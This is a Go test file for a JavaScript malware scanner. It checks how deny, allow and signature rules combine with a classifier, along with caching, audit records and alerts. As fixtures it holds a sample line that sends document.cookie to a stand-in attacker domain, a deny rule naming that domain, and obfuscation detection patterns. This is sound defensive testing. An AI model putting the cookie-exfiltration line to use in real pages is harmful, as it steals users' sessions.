// Rules-layer integration: the acceptance properties of combining the
// declarative rules engine with the classifier. A deny rule flips a
// model-benign verdict; an allow rule short-circuits the model; annotation
// hits ride on the model's verdict; the verdict cache never serves across
// rule generations; and with rules disabled the engine is bit-identical to
// a rules-free build (the golden pin for PR 9 behavior).
package scan

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"jsrevealer/internal/alert"
	"jsrevealer/internal/audit"
	"jsrevealer/internal/obs"
	"jsrevealer/internal/rules"
)

// testRules compiles in-memory rule files into one set and pins it at
// generation 1, the way a Holder would.
func testRules(t testing.TB, srcs ...string) rules.Provider {
	t.Helper()
	var files []*rules.File
	for i, src := range srcs {
		f, err := rules.Parse(fmt.Sprintf("test%d.json", i), []byte(src))
		if err != nil {
			t.Fatal(err)
		}
		files = append(files, f)
	}
	set, err := rules.Compile(files)
	if err != nil {
		t.Fatal(err)
	}
	set.Gen = 1
	return rules.StaticProvider{Set: set}
}

// benignClassifier is a model that never flags, counting its runs.
func benignClassifier(runs *int64) ClassifierFunc {
	return func(ctx context.Context, src string) (bool, error) {
		atomic.AddInt64(runs, 1)
		return false, nil
	}
}

const denyRuleFile = `{"version":1,"deny":[{"id":"exfil-c2","severity":"critical","domains":["evil-exfil.example"]}]}`

// TestDenyRuleFlipsModelBenign: the acceptance scenario — the model says
// benign, a deny-listed domain in the script forces malicious, and the rule
// hit is visible on the Result.
func TestDenyRuleFlipsModelBenign(t *testing.T) {
	var runs int64
	eng := New(benignClassifier(&runs), Config{Workers: 1, Rules: testRules(t, denyRuleFile)})
	src := `var x = fetch("https://cdn.evil-exfil.example/drop?d=" + document.cookie);`

	res := eng.ScanSource(context.Background(), "flip.js", src)
	if res.Verdict != VerdictMalicious || !res.Malicious {
		t.Fatalf("verdict = %v, want MALICIOUS", res.Verdict)
	}
	if res.Tier != TierRules {
		t.Fatalf("tier = %q, want %q", res.Tier, TierRules)
	}
	if len(res.RuleHits) != 1 || res.RuleHits[0].Rule != "exfil-c2" || res.RuleHits[0].Kind != rules.HitDeny {
		t.Fatalf("rule hits = %+v", res.RuleHits)
	}
	if atomic.LoadInt64(&runs) != 0 {
		t.Fatalf("model ran %d times, want 0 (deny short-circuits)", runs)
	}

	// Without the deny-listed content the same engine stays model-driven.
	clean := eng.ScanSource(context.Background(), "clean.js", `var x = fetch("https://cdn.example.org/app.js");`)
	if clean.Verdict != VerdictBenign || clean.Tier != TierPipeline || len(clean.RuleHits) != 0 {
		t.Fatalf("clean result = %+v, want model benign with no hits", clean)
	}
	if atomic.LoadInt64(&runs) != 1 {
		t.Fatalf("model ran %d times, want 1", runs)
	}
}

// TestDenyBeatsTriage: a deny hit must convict even when the triage tier
// would have cleared the script lexically — deny runs pre-triage.
func TestDenyBeatsTriage(t *testing.T) {
	var runs int64
	eng := New(benignClassifier(&runs), Config{
		Workers: 1,
		Triage:  triageOn(),
		Rules:   testRules(t, denyRuleFile),
	})
	srcs := clearableBenign(t, 1)
	poisoned := srcs[0] + `
var beacon = "https://evil-exfil.example/ping";`
	res := eng.ScanSource(context.Background(), "poisoned.js", poisoned)
	if res.Verdict != VerdictMalicious || res.Tier != TierRules {
		t.Fatalf("result = %+v, want rules-tier malicious", res)
	}
	// The un-poisoned original still clears triage normally.
	res = eng.ScanSource(context.Background(), "clean.js", srcs[0])
	if res.Verdict != VerdictBenign || res.Tier != TierTriage {
		t.Fatalf("result = %+v, want triage clear", res)
	}
}

// TestAllowShortCircuitsModel: an allow-listed marker string answers benign
// without running the classifier, even one that would have flagged.
func TestAllowShortCircuitsModel(t *testing.T) {
	flagAll := ClassifierFunc(func(ctx context.Context, src string) (bool, error) {
		return true, nil
	})
	eng := New(flagAll, Config{
		Workers: 1,
		Rules:   testRules(t, `{"version":1,"allow":[{"id":"vendor-bundle","strings":["@license acme-vendor"]}]}`),
	})
	res := eng.ScanSource(context.Background(), "vendor.js", `/* @license acme-vendor */ eval(x);`)
	if res.Verdict != VerdictBenign || res.Malicious {
		t.Fatalf("verdict = %v, want benign via allow", res.Verdict)
	}
	if res.Tier != TierRules || len(res.RuleHits) != 1 || res.RuleHits[0].Kind != rules.HitAllow {
		t.Fatalf("result = %+v, want allow-tier provenance", res)
	}
	// Without the marker the flagging model decides.
	res = eng.ScanSource(context.Background(), "other.js", `eval(x);`)
	if res.Verdict != VerdictMalicious || res.Tier != TierPipeline {
		t.Fatalf("result = %+v, want model malicious", res)
	}
}

// TestAnnotationRidesOnModelVerdict: a non-forcing signature hit does not
// change the verdict; it annotates it.
func TestAnnotationRidesOnModelVerdict(t *testing.T) {
	var runs int64
	eng := New(benignClassifier(&runs), Config{
		Workers: 1,
		Rules:   testRules(t, `{"version":1,"signatures":[{"id":"uses-eval","severity":"low","match":{"substring":"eval("}}]}`),
	})
	res := eng.ScanSource(context.Background(), "annot.js", `eval("1+1");`)
	if res.Verdict != VerdictBenign || res.Tier != TierPipeline {
		t.Fatalf("result = %+v, want model benign", res)
	}
	if len(res.RuleHits) != 1 || res.RuleHits[0].Rule != "uses-eval" {
		t.Fatalf("rule hits = %+v, want the annotation", res.RuleHits)
	}
	if atomic.LoadInt64(&runs) != 1 {
		t.Fatalf("model ran %d times, want 1", runs)
	}
}

// TestForcingSignatureOverridesModel: a high-severity signature forces
// malicious even though the model says benign, at the rules tier.
func TestForcingSignatureOverridesModel(t *testing.T) {
	var runs int64
	eng := New(benignClassifier(&runs), Config{
		Workers: 1,
		Rules: testRules(t, `{"version":1,"signatures":[{"id":"fn-ctor","severity":"high","match":{
			"all":[{"substring":"new Function"},{"regex":"unescape\\s*\\("}]}}]}`),
	})
	res := eng.ScanSource(context.Background(), "force.js", `var f = new Function(unescape("%61%3d1"));`)
	if res.Verdict != VerdictMalicious || res.Tier != TierRules {
		t.Fatalf("result = %+v, want rules-tier malicious", res)
	}
	if atomic.LoadInt64(&runs) != 0 {
		t.Fatalf("model ran %d times, want 0", runs)
	}
}

// TestGoldenPinRulesDisabled: with Config.Rules unset, verdict, tier, hits,
// and stats are identical to a rules-free engine across representative
// inputs — the bit-for-bit compatibility pin.
func TestGoldenPinRulesDisabled(t *testing.T) {
	classifier := ClassifierFunc(func(ctx context.Context, src string) (bool, error) {
		return strings.Contains(src, "eval("), nil
	})
	mk := func(p rules.Provider) *Engine {
		return New(classifier, Config{Workers: 1, Triage: triageOn(), Rules: p})
	}
	base := mk(nil)
	nilProvider := mk(rules.StaticProvider{}) // provider present, nothing loaded

	srcs := clearableBenign(t, 2)
	inputs := []Source{
		{Name: "a.js", Content: srcs[0]},
		{Name: "b.js", Content: `eval(unescape("%61"));`},
		{Name: "c.js", Content: srcs[1]},
		{Name: "a2.js", Content: srcs[0]}, // cache hit
	}
	for _, src := range inputs {
		want := base.ScanSource(context.Background(), src.Name, src.Content)
		got := nilProvider.ScanSource(context.Background(), src.Name, src.Content)
		want.Duration, got.Duration = 0, 0
		if want.Verdict != got.Verdict || want.Malicious != got.Malicious ||
			want.Tier != got.Tier || len(got.RuleHits) != 0 {
			t.Fatalf("%s: rules-nil result %+v != rules-free %+v", src.Name, got, want)
		}
	}
}

// TestCacheDoesNotServeAcrossRuleGenerations: a reload invalidates cached
// verdicts — the new generation recomputes, and a newly deny-listed
// indicator flips a previously cached benign verdict.
func TestCacheDoesNotServeAcrossRuleGenerations(t *testing.T) {
	dir := t.TempDir()
	write := func(body string) {
		if err := os.WriteFile(filepath.Join(dir, "r.json"), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write(`{"version":1,"deny":[{"id":"seed","domains":["placeholder.invalid"]}]}`)
	h := rules.NewHolder(dir, obs.NewRegistry())
	if _, err := h.Reload(); err != nil {
		t.Fatal(err)
	}
	var runs int64
	eng := New(benignClassifier(&runs), Config{Workers: 1, Rules: h})
	src := `var u = "https://soon-to-be-denied.example/x";`

	res := eng.ScanSource(context.Background(), "v1.js", src)
	if res.Verdict != VerdictBenign || res.Tier != TierPipeline {
		t.Fatalf("gen1 result = %+v", res)
	}
	res = eng.ScanSource(context.Background(), "v1-again.js", src)
	if res.Tier != TierCache {
		t.Fatalf("repeat under same generation = %+v, want cache hit", res)
	}

	write(`{"version":1,"deny":[{"id":"fresh","domains":["soon-to-be-denied.example"]}]}`)
	if _, err := h.Reload(); err != nil {
		t.Fatal(err)
	}
	res = eng.ScanSource(context.Background(), "v2.js", src)
	if res.Verdict != VerdictMalicious || res.Tier != TierRules {
		t.Fatalf("post-reload result = %+v, want rules-tier malicious (stale cache served?)", res)
	}
	if len(res.RuleHits) != 1 || res.RuleHits[0].Rule != "fresh" {
		t.Fatalf("post-reload hits = %+v", res.RuleHits)
	}
	// And the new verdict is itself cacheable under the new generation.
	res = eng.ScanSource(context.Background(), "v2-again.js", src)
	if res.Tier != TierCache || res.Verdict != VerdictMalicious || len(res.RuleHits) != 1 {
		t.Fatalf("repeat under gen2 = %+v, want cached malicious with hits", res)
	}
}

// TestRuleHitsReachAuditAndStats: the audit record carries rule_hits, and
// Stats counts rule-matched files.
func TestRuleHitsReachAuditAndStats(t *testing.T) {
	dir := t.TempDir()
	log, err := audit.Open(dir, audit.Options{})
	if err != nil {
		t.Fatal(err)
	}
	eng := New(benignClassifier(new(int64)), Config{
		Workers: 1,
		Rules:   testRules(t, denyRuleFile),
		Audit:   log,
	})
	stats := eng.ScanSources(context.Background(), []Source{
		{Name: "hit.js", Content: `go("https://evil-exfil.example/x")`},
		{Name: "miss.js", Content: `var a = 1;`},
	}, nil)
	if err := log.Close(); err != nil {
		t.Fatal(err)
	}
	if stats.RuleMatched != 1 {
		t.Fatalf("Stats.RuleMatched = %d, want 1", stats.RuleMatched)
	}
	data, err := os.ReadFile(filepath.Join(dir, "audit.ndjson"))
	if err != nil {
		t.Fatal(err)
	}
	var hitRec *audit.Record
	for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
		var rec audit.Record
		if err := json.Unmarshal([]byte(line), &rec); err != nil {
			t.Fatalf("bad audit line %q: %v", line, err)
		}
		if rec.Name == "hit.js" {
			hitRec = &rec
		} else if len(rec.RuleHits) != 0 {
			t.Fatalf("%s: unexpected rule hits %+v", rec.Name, rec.RuleHits)
		}
	}
	if hitRec == nil {
		t.Fatal("no audit record for hit.js")
	}
	if hitRec.Tier != TierRules || len(hitRec.RuleHits) != 1 || hitRec.RuleHits[0].Rule != "exfil-c2" {
		t.Fatalf("audit record = %+v, want rules tier with the deny hit", hitRec)
	}
}

// publisherFunc adapts a function to alert.Publisher.
type publisherFunc func(a alert.Alert) bool

func (f publisherFunc) Publish(a alert.Alert) bool { return f(a) }

// alertRecorder collects the names of alerted scripts.
type alertRecorder struct {
	mu   sync.Mutex
	seen []string
}

func (r *alertRecorder) publish(name string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.seen = append(r.seen, name)
}

// TestAlertPublishedOnDenyOnly: deny verdicts publish an alert; annotation
// hits and clean scans do not.
func TestAlertPublishedOnDenyOnly(t *testing.T) {
	rec := &alertRecorder{}
	eng := New(benignClassifier(new(int64)), Config{
		Workers: 1,
		Rules: testRules(t, `{"version":1,
			"deny":[{"id":"exfil-c2","domains":["evil-exfil.example"]}],
			"signatures":[{"id":"uses-eval","severity":"low","match":{"substring":"eval("}}]}`),
		Alert: publisherFunc(func(a alert.Alert) bool {
			if a.Verdict != VerdictMalicious.String() || len(a.Hits) == 0 || a.SHA256 == "" {
				t.Errorf("alert payload = %+v", a)
			}
			rec.publish(a.Name)
			return true
		}),
	})
	eng.ScanSource(context.Background(), "deny.js", `go("https://evil-exfil.example/x")`)
	eng.ScanSource(context.Background(), "annot.js", `eval("1");`)
	eng.ScanSource(context.Background(), "clean.js", `var a = 1;`)
	rec.mu.Lock()
	defer rec.mu.Unlock()
	if len(rec.seen) != 1 || rec.seen[0] != "deny.js" {
		t.Fatalf("alerts for %v, want only deny.js", rec.seen)
	}
}
